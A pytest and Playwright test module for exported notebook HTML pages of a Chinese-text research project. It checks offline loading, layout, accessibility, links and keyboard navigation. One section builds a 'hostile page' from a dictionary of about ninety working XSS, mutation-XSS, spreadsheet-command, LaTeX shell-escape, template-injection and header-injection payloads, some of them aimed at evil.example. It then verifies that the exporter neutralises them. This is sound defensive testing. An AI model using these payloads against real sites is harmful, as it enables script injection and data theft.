"""In a real browser: the pages opened offline, a hostile page that must stay text, and the way from a mark to its sentence."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from html import escape
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import unquote

import pytest
from browsing import MARKS, PIXEL, ROOT, Watched, open_browser, watch
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from shinan_research.build import make_copy, notebooks
from shinan_research.exporter import export_html

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = MARKS
WIDE, NARROW = 1200, 390
PAPER = 695  # 184 mm: A4 within its margins
NOTEBOOKS = [path.stem for path in notebooks(ROOT)]
PAGES = ["index", *NOTEBOOKS]

LOOK = """() => {
    const visible = document.body.innerText, here = location.href.split("#")[0];
    const links = [...document.querySelectorAll("a[href]")].map(link => new URL(link.getAttribute("href"), location));
    const words = drawing => (drawing.getAttribute("aria-labelledby") ?? "").split(" ").map(id => document.getElementById(id));
    const inside = links.filter(link => link.href.split("#")[0] === here && link.hash);
    return {
        pictures: [
            ...[...document.images].map(image => [image.alt.trim(), image.naturalWidth]),
            ...[...document.querySelectorAll("svg")].map(drawing => [
                words(drawing).map(each => each?.textContent.trim() ?? "").join(" ").trim(),
                drawing.getBoundingClientRect().width,
            ]),
        ],
        overflow: document.scrollingElement.scrollWidth - document.documentElement.clientWidth,
        chinese: /\\p{Script=Han}{2}/u.test(visible),
        lost: inside.filter(link => !document.getElementById(decodeURIComponent(link.hash.slice(1)))).map(link => link.hash),
        others: links.filter(link => link.protocol === "file:" && !inside.includes(link)).map(link => link.href.split("#")[0]),
        inside: inside.length,
    };
}"""
UNFOLD = "() => document.querySelectorAll('details').forEach(part => { part.open = true; })"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Return the one browser, open as long as this module runs: its event loop is then out of the way of others."""
    with open_browser() as opened:
        yield opened


# The pages


def is_current(root: Path) -> bool:
    """Return whether the pages exist and no source has changed since they were last rebuilt or found up to date."""
    state = root / "build" / "state.json"
    if not state.exists() or not all((root / "build" / "html" / f"{name}.html").exists() for name in PAGES):
        return False
    sources = [path for part in ("data", "notebooks", "shinan_research") for path in (root / part).rglob("*")]
    return all(path.stat().st_mtime <= state.stat().st_mtime for path in sources if path.is_file() and path.suffix != ".pyc")


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the folder of the pages: that of the repository, or, if it is missing or older, one built from a copy."""
    if is_current(ROOT):
        return ROOT / "build" / "html"
    copy = make_copy(ROOT, tmp_path_factory.mktemp("built"))
    words = "import sys, pathlib; from shinan_research.build import reproduce; reproduce(pathlib.Path(sys.argv[1]), say=print)"
    command = [sys.executable, "-c", words, str(copy)]
    ended = subprocess.run(command, env=os.environ | {"PYTHONPATH": str(ROOT)}, capture_output=True, text=True, encoding="utf-8")
    assert ended.returncode == 0, ended.stderr
    return copy / "build" / "html"


@pytest.fixture(
    scope="module", params=[(name, width) for name in PAGES for width in (WIDE, NARROW)], ids=lambda pair: "{}-{}".format(*pair)
)
def opened(request: pytest.FixtureRequest, browser: Browser, pages: Path) -> Iterator[Watched]:
    """Return each page at each width, opened offline."""
    name, width = request.param
    with browser.new_context(offline=True, viewport={"width": width, "height": 900}) as context:
        seen = watch(context, lambda url: url.startswith(("file:", "data:")))
        files: list[str] = []
        context.on("request", lambda asked: files.append(asked.url) if asked.url.startswith("file:") else None)
        seen.page.goto((pages / f"{name}.html").as_uri())
        seen.requests += files[1:]  # nor does the page ask for another file
        yield seen


def violations(page: Page) -> list[str]:
    """Return what axe-core finds wrong with a page, with one place each; all rules run, what passed is not described."""
    from axe_playwright_python.sync_playwright import Axe

    found = Axe().run(page, options={"resultTypes": ["violations"]}).response["violations"]
    return [f"{one['id']} ({one['impact']}, {len(one['nodes'])} places): {one['nodes'][0]['html'][:200]}" for one in found]


def test_page_asks_for_nothing_and_says_nothing(opened: Watched) -> None:
    """A page opened offline makes no request but for itself, opens nothing and leaves no word in the console."""
    assert (opened.requests, opened.words) == ([], [])
    assert [event.split()[0] for event in opened.events] == ["move"]


def test_page_fits_shows_its_pictures_and_speaks_chinese(opened: Watched) -> None:
    """A page has its pictures, each described, and Chinese text; nothing is wider than the window, code folded or unfolded."""
    folded = opened.page.evaluate(LOOK)
    opened.page.evaluate(UNFOLD)
    unfolded = opened.page.evaluate(LOOK)
    assert [picture for picture in unfolded["pictures"] if not (picture[0] and picture[1])] == []
    assert (folded["chinese"], folded["overflow"], unfolded["overflow"]) == (True, 0, 0)


def test_page_has_no_lost_link(opened: Watched, pages: Path) -> None:
    """Each link within a page has its aim, and each link to another file that file; the index leads to every page."""
    look = opened.page.evaluate(LOOK)
    assert look["inside"] and look["lost"] == []
    folders = (pages, pages.parents[1] / "figures", pages.parents[1] / "tables")
    there = {path.as_uri() for folder in folders for path in folder.rglob("*")}
    assert [link for link in look["others"] if link not in there] == []
    index = (pages / "index.html").as_uri()
    assert index in look["others"] or set(look["others"]) >= {(pages / f"{name}.html").as_uri() for name in NOTEBOOKS}


def test_page_is_accessible(opened: Watched) -> None:
    """The rules of axe-core find nothing wrong with a page, its code unfolded."""
    opened.page.evaluate(UNFOLD)
    assert violations(opened.page) == []


@pytest.mark.parametrize("name", PAGES)
def test_page_fits_on_paper(browser: Browser, pages: Path, name: str) -> None:
    """Printed on A4 nothing is wider than the paper, which would shrink the page: a figure keeps its printed width."""
    with browser.new_context(offline=True, viewport={"width": PAPER, "height": 1000}) as context:
        page = context.new_page()
        page.goto((pages / f"{name}.html").as_uri())
        page.emulate_media(media="print")
        assert page.evaluate(LOOK)["overflow"] == 0
        drawn = page.evaluate("() => [...document.querySelectorAll('.canvas svg')].map(one => one.getBoundingClientRect().width)")
        told = page.evaluate(
            "() => [...document.querySelectorAll('.canvas')].map(one => parseFloat(one.style.cssText.split(':')[1]))"
        )
    assert drawn == pytest.approx([points / 72 * 96 for points in told], abs=1)


def test_bad_page_is_seen_as_bad(browser: Browser, tmp_path: Path) -> None:
    """The same look at a page with every one of these faults finds every one, so that silence above means something."""
    (tmp_path / "bad.html").write_text(
        "<html><body style='width:2000px'><a href='#nowhere'>a</a><a href='none.html'>b</a><img src='http://a.example/x'><script>"
        "console.log('word'); alert('dialog')</script>",
        encoding="utf-8",
    )
    with browser.new_context(offline=True, viewport={"width": NARROW, "height": 900}) as context:
        seen = watch(context, lambda url: url.startswith(("file:", "data:")))
        seen.page.goto((tmp_path / "bad.html").as_uri())
        look = seen.page.evaluate(LOOK)
        found = {line.split()[0] for line in violations(seen.page)}
    assert seen.requests == ["http://a.example/x"] and "log: word" in seen.words and "dialog dialog" in seen.events
    assert look["pictures"] == [["", 0]] and look["overflow"] > 1000 and not look["chinese"]
    assert look["lost"] == ["#nowhere"] and look["others"] == [(tmp_path / "none.html").as_uri()]
    assert found >= {"html-has-lang", "document-title", "image-alt"}


# A hostile page

RUNS = "window.__ran=1"
EVIL = "https://evil.example"
SCRIPT = f"<script>{RUNS}</script>"
PAYLOADS = {  # the word kept stands where a payload has text of its own
    "script": f"{SCRIPT}kept",
    "script with address": f"<script src='{EVIL}/x.js'></script>kept",
    "script of the module kind": f"<script type=module>import '{EVIL}/x.js'; {RUNS}</script>",
    "script in capitals": f"<ScRiPt >{RUNS}</sCrIpT >",
    "script in a script": f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    "script without end": f"<script>{RUNS}//",
    "script behind a quotation mark": f"\"'>{SCRIPT}",
    "script in noscript": f'<noscript><p title="</noscript>{SCRIPT}">kept',
    "script in template": f"<template>{SCRIPT}</template><div><template shadowrootmode=open>{SCRIPT}</template></div>",
    "picture onerror": f"<img src=x onerror={RUNS}>",
    "picture onerror with slash": f"<img/src=`x`/onerror={RUNS}>",
    "picture onload": f'<img alt="x" onload="{RUNS}" src="data:image/png;base64,{PIXEL}">',
    "picture from outside": f"<img alt=x src={EVIL}/x.png srcset='{EVIL}/y.png 2x'><picture><source srcset='{EVIL}/z'></picture>",
    "picture that is svg": f"<img alt=x src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUNS}'/>\">",
    "body onload": f"<body onload={RUNS} onpageshow={RUNS} background='{EVIL}/x'>kept",
    "video and audio": f"<video src=x onerror={RUNS} poster='{EVIL}/x'></video><audio src=x onerror={RUNS} autoplay></audio>kept",
    "video source": f"<video><source onerror={RUNS} src=x></video>",
    "details ontoggle": f"<details open ontoggle={RUNS}><summary>kept</summary>x</details>",
    "input onfocus": f"<input onfocus={RUNS} autofocus><select onfocus={RUNS}></select><textarea onfocus={RUNS} autofocus>",
    "focus of anything": f"<p tabindex=1 autofocus onfocus={RUNS} contenteditable>kept</p>",
    "marquee onstart": f"<marquee onstart={RUNS} loop=1>kept</marquee>",
    "div handlers": f"<div onclick={RUNS} onmouseover={RUNS} onpointerover={RUNS} onwheel={RUNS}>kept</div>",
    "animation": f"<style>@keyframes x{{}}</style><p style='animation:x 1ms' onanimationstart={RUNS}>kept</p>",
    "transition": f"<p style='transition:all 1ms' ontransitionend={RUNS} onbeforeinput={RUNS}>kept</p>",
    "table handlers": f"<table onclick={RUNS} background={EVIL}/t><tr><td onmouseenter={RUNS} background={EVIL}/c>kept</table>",
    "popover": f"<button popovertarget=p>kept</button><div id=p popover onbeforetoggle={RUNS}>x</div><dialog open>",
    "javascript link": f'<a href="javascript:{RUNS}">kept</a>',
    "javascript link with entities": f'<a href="&#106;av&#x09;ascript&colon;{RUNS}">kept</a>',
    "javascript link with tab and newline": f'<a href="\x01java\tscr\nipt:{RUNS}">kept</a>',
    "javascript link in capitals": f'<a href=" JaVaScRiPt:{RUNS}" target=_blank ping="{EVIL}">kept</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">kept</a> <a href="file:///etc/passwd">kept</a>',
    "data link": f'<a href="data:text/html,{SCRIPT}">kept</a>',
    "data link in base64": '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==">kept</a>',
    "blob link": f'<a href="blob:{EVIL}/x">kept</a><a href="intent://x#Intent;end">kept</a>',
    "link to another host": '<a href="//evil.example">kept</a><a href="\\\\evil.example">b</a><a href="/\\evil.example">c</a>',
    "svg onload": f"<svg onload={RUNS}><text>kept</text></svg>",
    "svg script": f"<svg><script>{RUNS}</script><script href='{EVIL}/x.js'/></svg>",
    "svg link": f'<svg><a xlink:href="javascript:{RUNS}"><text y=20>kept</text></a></svg>',
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RUNS}" onbegin={RUNS} /><text>kept</text></a></svg>',
    "svg use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUNS}/>#x' /><image href='{EVIL}/x' /></svg>",
    "svg foreign object": f"<svg><foreignObject><iframe srcdoc='{SCRIPT}'></iframe></foreignObject></svg>",
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{RUNS}</script>"></iframe>kept',
    "iframe source": f'<iframe src="javascript:parent.{RUNS}"></iframe><iframe src="{EVIL}"></iframe>',
    "frames": f'<frameset onload={RUNS}><frame src="javascript:{RUNS}"></frameset>',
    "object": f'<object data="data:text/html,{SCRIPT}"></object><object data="{EVIL}/x"></object>kept',
    "embed": f'<embed src="javascript:{RUNS}"><embed src="{EVIL}/x.swf" allowscriptaccess=always><applet archive="{EVIL}">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">kept',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta charset=utf-7>+ADw-script+AD4-',
    "base": f'<base href="{EVIL}/" target=_blank>kept',
    "link to a style sheet": f"<link rel=stylesheet href='{EVIL}/x.css' onload={RUNS}><link rel=prefetch href='{EVIL}/y'>kept",
    "style sheet": f"<style>@import '{EVIL}/x.css'; body {{ display: none; background: url({EVIL}/y) }}</style>kept",
    "style sheet broken": f"<style><style/><img src=x onerror={RUNS}></style>",
    "style attribute": f'<p style="width: expression({RUNS}); background: url({EVIL}/x); -moz-binding: url({EVIL})">kept</p>',
    "style that covers": '<div style="position:fixed;inset:0;z-index:9999;background:white">kept</div>',
    "form": f'<form action="{EVIL}"><input type=submit value=go formaction="javascript:{RUNS}"><button>kept</button></form>',
    "form by javascript": f'<form action="javascript:{RUNS}" id=f><input type=image src="{EVIL}/x"></form><b form=f>kept</b>',
    "clobbering": "<form name=body><input name=firstChild></form><a id=location name=cookie>kept</a><img name=getElementById>",
    "template markers": "kept {{7*7}} {{ 7 * 191 }} {% for x in resources %}{{ x }}{% endfor %} ${7*7} #{7*7} <%= 7*7 %> {# x #}",
    "template inside": "kept {{ resources.__class__.__mro__ }} {% include '/etc/passwd' %} {% raw %} {{ self }}",
    "mathml link": f'<math><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{RUNS}">kept</maction></math>',
    "mathml link of its own": f'<math href="javascript:{RUNS}"><mtext href="javascript:{RUNS}">kept</mtext></math>',
    "mathml annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUNS}></annotation-xml>kept</math>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUNS}>">',
    "mutation by svg": f'<svg></p><style><a id="</style><img src=x onerror={RUNS}>">',
    "comment": f"<!--><img src=x onerror={RUNS}>--> <!-- x --!><img src=x onerror={RUNS}> <![CDATA[{SCRIPT}]]> <?xml {SCRIPT}?>",
    "way out": f"</pre></div></main></body></html><h5 onclick={RUNS}>kept</h5>",
    "raw text": f"</title></textarea></style></xmp>{SCRIPT}<plaintext>kept",
    "xmp": f"<xmp></xmp><img src=x onerror={RUNS}><listing>kept</listing>",
    "overlong entity": f"&lt;script&gt;{RUNS}&lt;/script&gt; &#0000060script&#x3e; &amp;lt;script&amp;gt; kept",
    "full-width brackets": f"＜script＞{RUNS}＜/script＞ kept",
    "odd spaces": f"<img\u00a0src=x\u3000onerror={RUNS}> <img\x0csrc=x\x0conerror={RUNS}> kept",
    "terminal escapes": "\x1b[31mkept\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x07kept\x1b]8;;\x07 \x1b[2J",
    "terminal colours": "\x1b[38;2;999;0;0mkept\x1b[48;5;777m \x1b[1;99999999999999999999mx \x1b[;;;m \x1b[",
    "terminal escape with a tag": f"\x1b[31;<img src=x onerror={RUNS}>mkept \x9b31m \x1bP1$r",
    "backspaces": "kept\b\b\b\bgone\r over\x7f\x0e\x0f",
    "bidi override": "kept \u202egnp.exe \u2066isolate &#x202e;fdp &#8238;fdp",
    "null byte": f"a\0b kept <scr\0ipt>{RUNS}</scr\0ipt> <img src=x onerror\0={RUNS}> &#0;",
    "lone surrogate": f"kept \ud83d {SCRIPT}\udc00",
    "not characters": "kept \ufffe\uffff \ufeff\u2028\u2029\u00ad\U000e0041",
    "formula of a sheet": '=HYPERLINK("https://evil.example","kept")',
    "command of a sheet": '=cmd|\' /C calc\'!A0 +SUM(1) -2+3 @SUM(kept) =IMPORTXML("https://evil.example","//a")\t=1+1',
    "latex": r"kept \input{/etc/passwd} \immediate\write18{id} \href{javascript:window.__ran=1}{x} \def\x{\x}\x",
    "latex formula": rf"$\text{{{SCRIPT}}}$ $\href{{javascript:{RUNS}}}{{x}}$ $\style{{x:url({EVIL})}}{{y}}$ $\frac{{$ kept",
    "latex class": rf"$$\class{{x\" onclick=\"{RUNS}}}{{y}} \unicode{{60}}\text{{<img src=x onerror={RUNS}>}}$$ kept",
    "markdown link": f"[kept](javascript:{RUNS}) [kept](<javascript:{RUNS}>) [kept](JaVa&#x53;cript&colon;{RUNS})",
    "markdown data link": f"[kept](data:text/html,{SCRIPT.replace(' ', '')}) <javascript:{RUNS}> <data:text/html,x>",
    "markdown reference": f'[kept][x]\n\n[x]: javascript:{RUNS} "t\' onmouseover={RUNS}"',
    "markdown picture": f'kept ![x](x"onerror="{RUNS}) ![x]({EVIL}/x.png) ![x](javascript:{RUNS})',
    "markdown title": f'[kept](x "y\' onclick={RUNS}") [kept](https://a.example/"onclick="{RUNS})',
    "markdown code": f'```"><img src=x onerror={RUNS}>\nkept\n```\n\n`{SCRIPT}` ~~~html\n{SCRIPT}\n~~~',
    "markdown diagram": f'```mermaid\ngraph TD; A["<img src=x onerror={RUNS}>kept"]\nclick A href "javascript:{RUNS}"\n```',
    "markdown table": f"| kept | b |\n|---|---|\n| {SCRIPT} | [kept](javascript:{RUNS}) |",
    "markdown heading": f"## kept <img src=x onerror={RUNS}> {{#x onclick={RUNS}}}",
    "markdown nested": f"> - [kept](<javas\tcript:{RUNS}>)\n>   <div\n>   onclick={RUNS}>kept</div>",
    "name with newline": f'notebooks/a\n"><img src=x onerror={RUNS}>kept.ipynb',
    "name with return": f"kept\r\nSet-Cookie: a=b\r\n\r\n{SCRIPT}../../etc/passwd\0.csv",
}
CARRIERS = (".highlight", "pre.stdout", "pre.stderr", "pre.plain")  # where a payload is text and nothing else
POKE = """() => {
    const kinds = "click dblclick mouseover mouseenter pointerover focus focusin blur toggle beforetoggle error load"
        + " animationstart transitionend input change submit wheel keydown copy begin start scroll cancel";
    document.addEventListener("click", event => event.preventDefault(), true);
    for (const part of document.querySelectorAll("body, body *"))
        for (const kind of kinds.split(" ")) part.dispatchEvent(new Event(kind, {bubbles: true, cancelable: true}));
}"""
FOUND = """() => {
    const parts = [...document.querySelectorAll("*")], names = parts.flatMap(part => [...part.attributes].map(one => one.name));
    const aims = parts.map(part => part.href?.baseVal ?? part.href ?? part.action).filter(Boolean);
    const sources = parts.map(part => part.getAttribute("src")).filter(Boolean);
    return {
        ran: String(window.__ran), address: location.href, frames: window.length,
        tags: [...new Set(parts.map(part => part.localName))],
        handlers: names.filter(name => /^on|^style$|^srcdoc$/i.test(name)),
        aims: aims.filter(aim => !/^(https?|file):|^data:,$/.test(aim)),
        sources: sources.filter(source => !/^data:image\\/(png|jpeg);base64,/.test(source)),
    };
}"""
TEXTS = """carriers => Object.fromEntries([...document.querySelectorAll("[id^=cell-]")].map(cell => [cell.id.slice(5),
    Object.fromEntries(["", ...carriers].map(carrier =>
        [carrier, [...(carrier ? cell.querySelectorAll(carrier) : [cell])].map(part => part.innerText).join("\\n")]))]))"""
LIVE = """() => [...document.querySelectorAll("iframe")].map(
    part => { try { return Boolean(part.contentWindow.__ran); } catch { return true; } }
)"""
FORBIDDEN = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "input", "button", "select", "textarea",
    "svg", "video", "audio", "source", "picture", "template", "noscript", "dialog", "marquee", "maction", "annotation-xml",
    "mglyph", "plaintext", "xmp", "foreignobject", "use", "image", "animate",
}  # fmt: skip


def bare(text: str) -> str:
    """Return text without what may differ on a page: white space, unseen characters, their names and their question marks."""
    text = re.sub(r"⟨U\+[0-9A-F]{4,6}⟩|[?\ufffd]", "", text)
    return "".join(char for char in text if not char.isspace() and unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Cn"))


def hostile_page() -> str:
    """Export a notebook that has each payload as source, Markdown, HTML, text, stream, traceback, tag and description."""
    cells = []
    for number, payload in enumerate(PAYLOADS.values()):
        tagged = {"tags": [payload.replace(",", ";")]}
        outputs = [new_output("display_data", {kind: payload}) for kind in ("text/html", "text/markdown", "text/plain")]
        outputs += [new_output("stream", name=name, text=payload) for name in ("stdout", "stderr")]
        outputs += [new_output("error", ename=payload, evalue=payload, traceback=[payload])]
        outputs += [
            new_output("display_data", {"application/javascript": payload, "image/svg+xml": payload, "text/latex": payload})
        ]
        picture = {"image/png": {"alt": payload.strip() or "x"}}
        outputs += [new_output("display_data", {"image/png": PIXEL}, metadata=picture)]
        cells.append(new_code_cell(payload, id=f"code-{number}", outputs=outputs, execution_count=1, metadata=tagged))
        cells.append(new_markdown_cell(payload, id=f"words-{number}", metadata=tagged))
    titles = "".join(PAYLOADS.values())
    links = [(f"{name}.html", payload) for name, payload in PAYLOADS.items()]
    links += [(f"./{payload}", name) for name, payload in PAYLOADS.items()]
    return export_html(new_notebook(cells=cells), title=titles, links=links)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the file of the hostile page."""
    path = tmp_path_factory.mktemp("hostile") / "page.html"
    path.write_bytes(hostile_page().encode("utf-8"))
    return path


def test_there_are_enough_payloads() -> None:
    """There are sixty payloads at least, no two of them alike."""
    assert len(set(PAYLOADS.values())) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("guarded", [True, False], ids=["with-policy", "without-policy"])
def test_hostile_page_does_nothing(browser: Browser, hostile: Path, guarded: bool) -> None:
    """Nothing of a hostile notebook runs, asks, moves or opens, not even if the page's own policy did not forbid it."""
    with browser.new_context(offline=True, bypass_csp=not guarded) as context:
        seen = watch(context, lambda url: url in (hostile.as_uri(), "data:,"))
        seen.page.goto(hostile.as_uri())
        seen.page.evaluate(UNFOLD)
        seen.page.evaluate(POKE)
        seen.page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
        found = seen.page.evaluate(FOUND)
    assert (found["ran"], found["address"], found["frames"]) == ("undefined", hostile.as_uri(), 0)
    assert (seen.requests, seen.words, seen.events) == ([], [], [f"move {hostile.as_uri()}"])
    assert set(found["tags"]) & FORBIDDEN == set()
    assert (found["handlers"], found["aims"], found["sources"]) == ([], [], [])


def test_hostile_text_is_still_there(browser: Browser, hostile: Path) -> None:
    """Each payload can be read in full where it is text, and its own text where it is taken for HTML or Markdown."""
    with browser.new_context(offline=True, viewport={"width": WIDE, "height": 900}) as context:
        page = context.new_page()
        page.goto(hostile.as_uri())
        page.evaluate(UNFOLD)
        texts = page.evaluate(TEXTS, [*CARRIERS, ".jp-RenderedHTML", ".jp-MarkdownOutput"])
        whole = page.evaluate("() => document.body.innerText")
    assert not [char for char in whole if unicodedata.category(char) == "Cc" and char not in "\n\t"]
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", whole)
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        cell, words = texts[f"code-{number}"], texts[f"words-{number}"][""]
        for carrier in CARRIERS:
            seen = payload if carrier == ".highlight" else re.sub("\x1b\\[.*?[@-~]", "", payload)  # colours are taken out
            assert bare(seen) in bare(cell[carrier]), (name, carrier)
        if "kept" in payload:
            assert "kept" in cell[".jp-RenderedHTML"] and "kept" in cell[".jp-MarkdownOutput"] and "kept" in words, name


def test_payloads_are_live(browser: Browser, tmp_path: Path) -> None:
    """Unguarded, each in a frame of its own, many payloads do run or lead away, so that their silence above means something."""
    frames = "".join(f'<iframe srcdoc="{escape(payload)}"></iframe>' for payload in PAYLOADS.values())
    (tmp_path / "live.html").write_bytes(f"<!DOCTYPE html><meta charset=utf-8>{frames}".encode("utf-8", "replace"))
    with browser.new_context(bypass_csp=True) as context:
        seen = watch(context, lambda url: url.startswith("file:"))
        seen.page.goto((tmp_path / "live.html").as_uri())
        answers = seen.page.evaluate(LIVE)
    alive = {name for name, answer in zip(PAYLOADS, answers, strict=True) if answer}
    assert alive >= {"script", "picture onerror", "svg onload", "iframe srcdoc", "meta refresh"}
    assert len(alive) > 30 and len(seen.requests) > 10


# From a mark to the sentence


def test_from_the_mark_to_the_sentence(browser: Browser, pages: Path) -> None:
    """With the keyboard alone: Enter on a mark leads to its row, Tab and Enter to the lines of its term, and on to the page."""
    figured = next(path for path in sorted(pages.glob("0*.html")) if 'class="leads"' in path.read_text(encoding="utf-8"))
    with browser.new_context(offline=True, viewport={"width": WIDE, "height": 900}) as context:
        seen = watch(context, lambda url: url.startswith(("file:", "data:")))
        page = seen.page
        page.goto(figured.as_uri())
        mark = page.locator("figure svg a:not([tabindex])").first
        term = mark.get_attribute("aria-label").partition(" · ")[0]
        mark.focus()
        page.keyboard.press("Enter")
        row = page.locator("tr:target")
        assert row.is_visible() and term in row.inner_text()
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        page.wait_for_url("**/text/term-*.html*")
        assert page.locator("h1").inner_text() == term and page.locator("td.match").count() > 0
        line = page.locator("td.match").first.inner_text()
        page.locator("tbody a").first.focus()
        page.keyboard.press("Enter")
        page.wait_for_url("**/text/*.html#c*")
        assert line in page.locator(".sentence:target").inner_text() and page.locator("ins").count() > 0
        assert violations(page) == [] and seen.requests == []


def test_pages_of_the_text_are_sound(browser: Browser, pages: Path) -> None:
    """Each page beneath the figures opens offline without a request or a word, fits a narrow window, and loses no link."""
    with browser.new_context(offline=True, viewport={"width": NARROW, "height": 900}) as context:
        seen = watch(context, lambda url: url.startswith(("file:", "data:")))
        texts = {path.as_uri(): path.read_text(encoding="utf-8") for path in sorted((pages / "text").glob("*.html"))}
        assert len(texts) > 5
        for place, address in enumerate(texts):
            seen.page.goto(address)
            look = seen.page.evaluate(LOOK)
            assert (look["overflow"], look["lost"], look["chinese"]) == (0, [], True), address
            aims = seen.page.evaluate("() => [...document.querySelectorAll('main a')].map(link => link.href)")
            split = [aim.partition("#") for aim in aims]
            assert [aim for aim, _, anchor in split if f'id="{unquote(anchor)}"' not in texts.get(aim, "")] == []
            assert place % 10 or violations(seen.page) == []
    assert (seen.requests, seen.words) == ([], [])
